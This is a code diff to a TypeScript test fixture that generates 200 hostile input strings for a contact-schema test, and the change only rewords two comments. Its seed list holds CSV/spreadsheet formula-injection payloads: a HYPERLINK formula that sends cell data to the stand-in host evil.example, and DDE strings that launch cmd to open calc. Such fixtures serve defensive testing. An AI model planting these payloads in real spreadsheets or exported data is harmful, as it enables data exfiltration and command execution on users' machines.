@@ -1,4 +1,4 @@
-/** Texts that people hand in to see what happens: formulas, markup, separators, line breaks, odd Unicode. All pass the schema of a contact. */
+/** Hostile texts: formulas, markup, separators, line breaks, unusual Unicode. All pass the contact schema. */
 const seeds = [
   '=HYPERLINK("http://evil.example/?"&A1,"Click")',
   "=cmd|' /C calc'!A0",
@@ -59,7 +59,7 @@ const seeds = [
   'DDE("cmd";"/C calc";"!A0")',
 ];
 
-/** Two hundred of them. */
+/** Two hundred hostile texts. */
 export const hostileTexts: readonly string[] = Array.from({ length: 200 }, (_, i) => {
   const seed = seeds[i % seeds.length] ?? '';
   return i < seeds.length ? seed : `${seed}${['', ' ', '=', '"', '\n', ';'][Math.floor(i / seeds.length)] ?? ''}${seeds[(i * 7) % seeds.length]}`;
